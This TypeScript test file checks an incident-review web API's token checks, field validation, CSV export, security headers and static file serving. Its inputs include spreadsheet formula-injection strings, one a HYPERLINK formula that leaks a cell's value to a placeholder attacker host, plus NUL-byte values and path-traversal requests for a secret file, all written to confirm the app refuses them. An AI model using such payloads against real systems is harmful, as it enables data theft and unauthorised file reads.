/** Review routes, tokens, security headers, the docs page and the dashboard's files. */
import assert from 'node:assert/strict';
import { mkdirSync, mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import type { IncidentView } from '../incidents/types.js';
import type { Store } from '../store/store.js';
import { closeTestStore, openTestStore, testArticles, testEngines } from '../store/testing.js';
import { createApp } from './app.js';

const TOKEN = 'test-write-token';
const json = (body: unknown, token?: string) => ({
  method: 'POST',
  headers: {
    'content-type': 'application/json',
    ...(token ? { authorization: `Bearer ${token}` } : {}),
  },
  body: JSON.stringify(body),
});

for (const engine of testEngines()) {
  describe(`review API (${engine})`, () => {
    let store: Store;
    let app: ReturnType<typeof createApp>;
    let all: IncidentView[];
    const byPlace = (p: string) => all.find((i) => i.place === p) as IncidentView;
    before(async () => {
      store = await openTestStore(engine);
      await store.ingest(testArticles(), { workers: 0 });
      app = createApp(store, { writeToken: TOKEN, webRoot: false });
      all = [];
      for await (const i of store.allIncidents({})) all.push(i);
    });
    after(async () => {
      await closeTestStore(store);
    });

    it('refuses writes without the token (401), with a wrong one (401), and with none configured (403)', async () => {
      const id = byPlace('Harir Air Base').id;
      const path = `/api/incidents/${encodeURIComponent(id)}/review`;
      const none = await app.request(path, json({ action: 'confirm' }));
      assert.equal(none.status, 401);
      assert.equal((await none.json()).error.code, 'unauthorized');
      assert.match(none.headers.get('www-authenticate') ?? '', /Bearer/);
      const wrong = await app.request(path, json({ action: 'confirm' }, 'nope'));
      assert.equal(wrong.status, 401);
      const closed = createApp(store, { webRoot: false });
      const r = await closed.request(path, json({ action: 'confirm' }, TOKEN));
      assert.equal(r.status, 403);
      const body = await r.json();
      assert.deepEqual(Object.keys(body.error).sort(), ['code', 'message', 'status']);
      assert.equal(body.error.code, 'writes_disabled');
      assert.equal((await store.getIncident(id))?.review_status, 'unreviewed');
    });

    it('confirms, edits, rejects and resets with the token; every change is in the log', async () => {
      const id = byPlace('Harir Air Base').id;
      const path = `/api/incidents/${encodeURIComponent(id)}`;
      const c = await app.request(`${path}/review`, json({ action: 'confirm', who: 'huda' }, TOKEN));
      assert.equal(c.status, 200);
      assert.equal((await c.json()).review_status, 'confirmed');
      const e = await app.request(
        `${path}/review`,
        json({ action: 'edit', who: 'huda', fields: { killed: 2, weapon: 'drone' } }, TOKEN),
      );
      assert.equal(e.status, 200);
      const edited = await e.json();
      assert.equal(edited.killed, 2);
      assert.equal(edited.weapon, 'drone');
      const bad = await app.request(
        `${path}/review`,
        json({ action: 'edit', fields: { killed: -3 } }, TOKEN),
      );
      assert.equal(bad.status, 400);
      assert.equal((await bad.json()).error.code, 'invalid_review');
      const badAction = await app.request(`${path}/review`, json({ action: 'delete' }, TOKEN));
      assert.equal(badAction.status, 400);
      const notJson = await app.request(`${path}/review`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', authorization: `Bearer ${TOKEN}` },
        body: '{nope',
      });
      assert.equal(notJson.status, 400);
      assert.equal((await notJson.json()).error.code, 'invalid_json');
      await app.request(`${path}/review`, json({ action: 'reject' }, TOKEN));
      await app.request(`${path}/review`, json({ action: 'reset', who: 'huda' }, TOKEN));
      const log = await (await app.request(`${path}/log`)).json();
      assert.equal(log.incident_id, id);
      assert.deepEqual(
        log.entries.map((x: { action: string }) => x.action),
        ['confirm', 'edit', 'reject', 'reset'],
      );
      assert.equal(log.entries[2].who, 'anonymous');
      assert.equal(log.entries[1].before.killed, 0); // the fixture says "دون أن يسفرا عن إصابات"
      assert.equal(log.entries[1].after.killed, 2);
      assert.ok(log.entries.every((x: { at: string }) => !Number.isNaN(Date.parse(x.at))));
      const missing = await app.request('/api/incidents/nope/review', json({ action: 'confirm' }, TOKEN));
      assert.equal(missing.status, 404);
      assert.equal((await app.request('/api/incidents/nope/log')).status, 404);
    });

    it('merges and splits; a merged-away id answers 404 naming where it went', async () => {
      const tanf = byPlace('Al-Tanf garrison');
      const victory = byPlace('Camp Victory (Victoria Base)');
      const m = await app.request(
        `/api/incidents/${encodeURIComponent(tanf.id)}/merge`,
        json({ other: victory.id, who: 'huda' }, TOKEN),
      );
      assert.equal(m.status, 200);
      const merged = (await m.json()) as IncidentView;
      assert.equal(merged.sources.length, tanf.sources.length + victory.sources.length);
      const gone = await app.request(`/api/incidents/${encodeURIComponent(victory.id)}`);
      assert.equal(gone.status, 404);
      assert.equal((await gone.json()).error.details.merged_into, tanf.id);
      const self = await app.request(
        `/api/incidents/${encodeURIComponent(tanf.id)}/merge`,
        json({ other: tanf.id }, TOKEN),
      );
      assert.equal(self.status, 400);

      const moving = merged.sources.filter((s) => s.article_id === 'victory-gamma').map((s) => s.mention_id);
      const s = await app.request(
        `/api/incidents/${encodeURIComponent(tanf.id)}/split`,
        json({ mention_ids: moving, who: 'huda' }, TOKEN),
      );
      assert.equal(s.status, 201);
      const split = await s.json();
      assert.deepEqual(
        split.created.sources.map((x: { article_id: string }) => x.article_id),
        ['victory-gamma'],
      );
      const badSplit = await app.request(
        `/api/incidents/${encodeURIComponent(tanf.id)}/split`,
        json({ mention_ids: ['x'] }, TOKEN),
      );
      assert.equal(badSplit.status, 400);
      const unauth = await app.request(
        `/api/incidents/${encodeURIComponent(tanf.id)}/split`,
        json({ mention_ids: moving }),
      );
      assert.equal(unauth.status, 401);
    });

    it('reads need the read token when one is set (the write token reads too)', async () => {
      const guarded = createApp(store, { readToken: 'reader', writeToken: TOKEN, webRoot: false });
      const r = await guarded.request('/api/incidents?_facets=0');
      assert.equal(r.status, 401);
      assert.equal((await r.json()).error.status, 401);
      const ok = await guarded.request('/api/incidents?_facets=0', {
        headers: { authorization: 'Bearer reader' },
      });
      assert.equal(ok.status, 200);
      const w = await guarded.request('/api/stats', { headers: { authorization: `Bearer ${TOKEN}` } });
      assert.equal(w.status, 200);
      assert.equal((await guarded.request('/api/openapi.json')).status, 200);
    });

    // [fields, the field a 400 names]; each edit is refused and changes nothing
    const badEdits: [Record<string, unknown>, string][] = [
      [{ country: '=HYPERLINK("http://evil.example/?x="&A1,"click")' }, 'fields.country'],
      [{ country: 'iq' }, 'fields.country'],
      [{ country: 'IRQ' }, 'fields.country'],
      [{ country: '' }, 'fields.country'],
      [{ type: '=1+1' }, 'fields.type'],
      [{ type: 'Protest' }, 'fields.type'],
      [{ weapon: 'laser' }, 'fields.weapon'],
      [{ target: '@SUM(A1)' }, 'fields.target'],
      [{ killed: -1 }, 'fields.killed'],
      [{ injured: 1.5 }, 'fields.injured'],
      [{ munitions: 2 ** 31 }, 'fields.munitions'],
      [{ killed: '3' }, 'fields.killed'],
      [{ date: '2024-02-30' }, 'fields.date'],
      [{ date: '0000' }, 'fields.date'],
      [{ date: '=TODAY()' }, 'fields.date'],
      [{ lat: 91 }, 'fields.lat'],
      [{ lon: '-1' }, 'fields.lon'],
      [{ geo_precision: 4 }, 'fields.geo_precision'],
      [{ intercepted: 'yes' }, 'fields.intercepted'],
      [{ place: '' }, 'fields.place'],
      [{ place: 'x'.repeat(201) }, 'fields.place'],
      [{ actor: 'Kata\u0000ib' }, 'fields.actor'],
      [{ admin1: 'line\nbreak' }, 'fields.admin1'],
      [{ source_count: 9 }, 'fields.source_count'],
    ];
    for (const [fields, param] of badEdits) {
      it(`an edit outside the field's domain is a 400 naming ${param}: ${JSON.stringify(fields).slice(0, 60)}`, async () => {
        const id = byPlace('Ain al-Asad Air Base').id;
        const before = await store.getIncident(id);
        const r = await app.request(
          `/api/incidents/${encodeURIComponent(id)}/review`,
          json({ action: 'edit', who: 'huda', fields }, TOKEN),
        );
        assert.equal(r.status, 400);
        const body = await r.json();
        assert.equal(body.error.code, 'invalid_review');
        assert.deepEqual(
          body.error.details.map((d: { param: string }) => d.param),
          [param],
        );
        assert.deepEqual(await store.getIncident(id), before);
      });
    }

    it('a NUL in who or an id is a 400, not a 500', async () => {
      const id = byPlace('Ain al-Asad Air Base').id;
      const who = await app.request(
        `/api/incidents/${encodeURIComponent(id)}/review`,
        json({ action: 'confirm', who: 'a\u0000b' }, TOKEN),
      );
      assert.equal(who.status, 400);
      assert.equal((await who.json()).error.details[0].param, 'who');
      const path = await app.request('/api/incidents/a%00b/review', json({ action: 'confirm' }, TOKEN));
      assert.equal(path.status, 400);
      assert.equal((await path.json()).error.details[0].param, 'id');
      const other = await app.request(
        `/api/incidents/${encodeURIComponent(id)}/merge`,
        json({ other: 'x'.repeat(5000) }, TOKEN),
      );
      assert.equal(other.status, 400);
      assert.equal((await other.json()).error.details[0].param, 'other');
    });

    it("a reviewer's free text reaches the CSV guarded, codes stay codes", async () => {
      const id = byPlace('Ain al-Asad Air Base').id;
      const r = await app.request(
        `/api/incidents/${encodeURIComponent(id)}/review`,
        json(
          {
            action: 'edit',
            who: 'huda',
            fields: { actor: '=HYPERLINK("x")', place: '+Camp', admin1: '@A1' },
          },
          TOKEN,
        ),
      );
      assert.equal(r.status, 200, await r.clone().text());
      const csv = await (await app.request('/api/incidents.csv?limit=500')).text();
      const line = csv.split('\n').find((l) => l.includes(`rasd_id=${id}`)) ?? '';
      assert.ok(line.includes(`"'=HYPERLINK(""x"")"`), line);
      assert.ok(line.includes(",'+Camp,"), line);
      assert.ok(line.includes(",'@A1,"), line);
      assert.ok(line.startsWith('IRQ'), line);
      assert.ok(!/,[=+@]/.test(line), line);
      await app.request(`/api/incidents/${encodeURIComponent(id)}/review`, json({ action: 'reset' }, TOKEN));
    });

    it('stats per day on request', async () => {
      const s = await (await app.request('/api/stats?_days=1')).json();
      assert.ok(Array.isArray(s.per_day) && s.per_day.length > 0);
      assert.ok(s.per_day.every((d: { day: string }) => /^\d{4}-\d{2}-\d{2}$/.test(d.day)));
      const plain = await (await app.request('/api/stats')).json();
      assert.equal(plain.per_day, undefined);
    });
  });
}

describe('security headers, docs page and dashboard files', () => {
  const web = mkdtempSync(join(tmpdir(), 'rasd-web-'));
  mkdirSync(join(web, 'assets'));
  writeFileSync(
    join(web, 'index.html'),
    '<!doctype html><title>dash</title><script src="/assets/a.js"></script>',
  );
  writeFileSync(join(web, 'assets', 'a.js'), 'console.log(1)');
  writeFileSync(join(tmpdir(), 'rasd-secret.txt'), 'secret');
  const store = {
    listIncidents: async () => ({ items: [], next_cursor: null }),
    facets: async () => ({}),
    getIncident: async () => null,
    getArticle: async () => null,
    stats: async () => ({}),
  };
  const app = createApp(store, { webRoot: web });

  it('sets a strict Content-Security-Policy on every response', async () => {
    for (const path of ['/', '/api/incidents', '/api/docs', '/assets/a.js', '/api/nothing']) {
      const r = await app.request(path);
      const csp = r.headers.get('content-security-policy') ?? '';
      assert.match(csp, /script-src 'self'(;|$)/, path);
      assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval/, path);
      assert.match(csp, /object-src 'none'/);
      assert.equal(r.headers.get('x-content-type-options'), 'nosniff');
    }
  });

  it('the docs page has no inline script or style; its script is a file', async () => {
    const html = await (await app.request('/api/docs')).text();
    assert.doesNotMatch(html, /<script>|<script(?![^>]*\bsrc=)[^>]*>/);
    assert.doesNotMatch(html, /<style|\sstyle=|\son[a-z]+=/i);
    const doc = await (await app.request('/api/openapi.json')).json();
    for (const op of ['review', 'merge', 'split'])
      assert.ok(doc.paths[`/api/incidents/{id}/${op}`].post.security);
    assert.ok(doc.paths['/api/incidents/{id}/log'].get);
    const js = await app.request('/api/docs.js');
    assert.match(js.headers.get('content-type') ?? '', /javascript/);
    assert.match(await js.text(), /openapi\.json/);
    assert.doesNotMatch(await (await app.request('/api/docs.js')).text(), /innerHTML/);
  });

  it('serves the dashboard, its assets, and index.html for its own routes', async () => {
    const home = await app.request('/');
    assert.equal(home.status, 200);
    assert.match(await home.text(), /<title>dash/);
    const page = await app.request('/incident/2024-01-20-x');
    assert.match(await page.text(), /<title>dash/);
    const asset = await app.request('/assets/a.js');
    assert.match(asset.headers.get('content-type') ?? '', /javascript/);
    assert.match(asset.headers.get('cache-control') ?? '', /immutable/);
    assert.equal((await app.request('/assets/missing.js')).status, 404);
    // API paths never fall back to the dashboard
    const api = await app.request('/api/nothing');
    assert.equal(api.status, 404);
    assert.equal((await api.json()).error.code, 'not_found');
  });

  it('never serves a file outside its folder', async () => {
    for (const path of [
      '/../rasd-secret.txt',
      '/%2e%2e/rasd-secret.txt',
      '/assets/%2e%2e/%2e%2e/rasd-secret.txt',
    ]) {
      const r = await app.request(path);
      assert.notEqual(await r.text(), 'secret', path);
    }
  });

  it('says so when the dashboard is not built', async () => {
    const bare = createApp(store, { webRoot: join(web, 'nothing-here') });
    const r = await bare.request('/');
    assert.equal(r.status, 503);
    assert.match(await r.text(), /npm run build/);
  });
});
